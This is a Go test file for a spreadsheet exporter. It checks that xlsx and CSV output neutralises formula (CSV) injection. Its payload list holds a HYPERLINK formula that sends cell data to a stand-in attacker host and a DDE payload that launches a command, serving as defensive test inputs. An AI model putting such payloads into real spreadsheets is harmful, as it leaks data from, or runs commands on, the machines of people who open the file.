package sheet

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"
)

var payloads = []string{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "楼道堆物"}

func write(t *testing.T, f Format) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := New(&buf, f, Options{Sheet: "工单", Widths: []float64{40}})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Row("内容"); err != nil {
		t.Fatal(err)
	}
	for _, p := range payloads {
		if err := w.Row(p); err != nil {
			t.Fatal(err)
		}
	}
	if buf.Len() != 0 {
		t.Errorf("%s: %d bytes sent before Close", f, buf.Len())
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// An xlsx cell is an inline string holding the text as typed, never a formula.
func TestXLSXCellsAreText(t *testing.T) {
	t.Parallel()
	x, err := excelize.OpenReader(bytes.NewReader(write(t, XLSX)))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	if got := x.GetSheetList(); len(got) != 1 || got[0] != "工单" {
		t.Fatalf("sheets %v", got)
	}
	for i, p := range payloads {
		cell, _ := excelize.CoordinatesToCellName(1, i+2)
		if f, _ := x.GetCellFormula("工单", cell); f != "" {
			t.Errorf("%s holds formula %q", cell, f)
		}
		if v, _ := x.GetCellValue("工单", cell); v != p {
			t.Errorf("%s = %q, want %q", cell, v, p)
		}
	}
}

// A CSV for Excel starts with the byte-order mark, and a cell that would start a formula is
// prefixed with an apostrophe; GB18030 decodes back to the same cells.
func TestCSVForExcel(t *testing.T) {
	t.Parallel()
	b := write(t, CSV)
	if !bytes.HasPrefix(b, []byte("\xEF\xBB\xBF")) {
		t.Fatalf("no BOM: %q", b[:8])
	}
	gb, err := simplifiedchinese.GB18030.NewDecoder().Bytes(write(t, CSVGB18030))
	if err != nil {
		t.Fatal(err)
	}
	for name, data := range map[string][]byte{"utf-8": b[3:], "gb18030": gb} {
		rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
		if err != nil {
			t.Fatal(name, err)
		}
		if len(rows) != len(payloads)+1 || rows[0][0] != "内容" {
			t.Fatalf("%s: rows %q", name, rows)
		}
		for i, p := range payloads {
			got := rows[i+1][0]
			if strings.ContainsAny(got[:1], "=+-@\t\r") {
				t.Errorf("%s: cell %q starts a formula", name, got)
			}
			if strings.TrimPrefix(got, "'") != p {
				t.Errorf("%s: cell %q, want %q", name, got, p)
			}
		}
	}
}

func TestParseFormat(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]Format{"": XLSX, "xlsx": XLSX, "csv": CSV, "csv-gb18030": CSVGB18030} {
		if f, ok := ParseFormat(in); !ok || f != want {
			t.Errorf("ParseFormat(%q) = %q, %v", in, f, ok)
		}
	}
	if _, ok := ParseFormat("pdf"); ok {
		t.Error("pdf accepted")
	}
}
